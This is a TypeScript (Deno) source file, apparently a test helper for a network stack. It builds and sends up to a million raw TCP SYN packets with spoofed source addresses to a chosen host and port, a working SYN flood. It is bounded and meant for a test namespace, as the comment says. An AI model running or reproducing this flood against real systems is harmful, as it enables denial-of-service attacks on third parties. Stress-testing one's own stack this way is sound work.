// A bounded SYN flood: `count` SYNs from spoofed sources in 198.51.100.0/24
// (ports vary too) to `dst`:`port`, spread over `ms` milliseconds, through a
// raw socket with IP_HDRINCL. Run inside the test's namespace only.
//
//   deno run --allow-ffi syn_flood.ts 192.0.2.2 80 100000 4000

import { checksum, sum16 } from "../../stack/wire/checksum.ts";
import { parseIp } from "../../stack/wire/ip_address.ts";

const lib = Deno.dlopen("libc.so.6", {
  socket: { parameters: ["i32", "i32", "i32"], result: "i32" },
  sendto: { parameters: ["i32", "buffer", "usize", "i32", "buffer", "u32"], result: "isize" },
  close: { parameters: ["i32"], result: "i32" },
});
const [dstText, portText, countText, msText] = Deno.args;
const dst = parseIp(dstText ?? "");
const port = Number(portText), count = Number(countText), ms = Number(msText);
if (
  !dst || dst.length !== 4 || !(port > 0) || !(count > 0) || !(count <= 1_000_000) || !(ms >= 0)
) {
  console.error("Usage: syn_flood.ts IPV4 PORT COUNT(<=1000000) MS");
  Deno.exit(2);
}
const fd = lib.symbols.socket(2, 3, 255); // AF_INET, SOCK_RAW, IPPROTO_RAW
if (fd < 0) {
  console.error("syn_flood: socket failed (needs root)");
  Deno.exit(1);
}
const pkt = new Uint8Array(44); // IPv4 + TCP with an MSS option
const sa = new Uint8Array(16);
sa[0] = 2;
sa.set(dst, 4);
pkt.set([0x45, 0, 0, 44, 0, 0, 0x40, 0, 64, 6], 0);
pkt.set([198, 51, 100, 0], 12);
pkt.set(dst, 16);
pkt.set([0, 0, port >> 8, port & 255], 20);
pkt[32] = 6 << 4; // data offset 24 bytes
pkt[33] = 0x02; // SYN
pkt[34] = 0xff;
pkt[35] = 0xff;
pkt.set([2, 4, 0x05, 0xb4], 40);
const start = performance.now();
let sent = 0;
for (let i = 0; i < count; i++) {
  pkt[15] = 1 + (i % 250);
  const sport = 1024 + ((i * 7) % 60000);
  pkt[20] = sport >> 8;
  pkt[21] = sport & 255;
  pkt.set([i >>> 24, (i >>> 16) & 255, (i >>> 8) & 255, i & 255], 24);
  pkt[10] = pkt[11] = 0;
  const ipc = checksum(sum16(0, pkt, 0, 20));
  pkt[10] = ipc >> 8;
  pkt[11] = ipc & 255;
  pkt[36] = pkt[37] = 0;
  let ps = 0;
  for (let k = 12; k < 20; k += 2) ps += (pkt[k] << 8) | pkt[k + 1];
  const c = checksum(sum16(ps + 6 + 24, pkt, 20, 44));
  pkt[36] = c >> 8;
  pkt[37] = c & 255;
  if (Number(lib.symbols.sendto(fd, pkt, 44n, 0, sa, 16)) === 44) sent++;
  // Pace: stay on schedule for `ms`, in steps of 1,000 packets.
  if (i % 1000 === 999) {
    const due = start + (ms * (i + 1)) / count;
    const wait = due - performance.now();
    if (wait > 0) await new Promise((r) => setTimeout(r, wait));
  }
}
lib.symbols.close(fd);
console.log(`sent ${sent} SYNs in ${Math.round(performance.now() - start)} ms`);
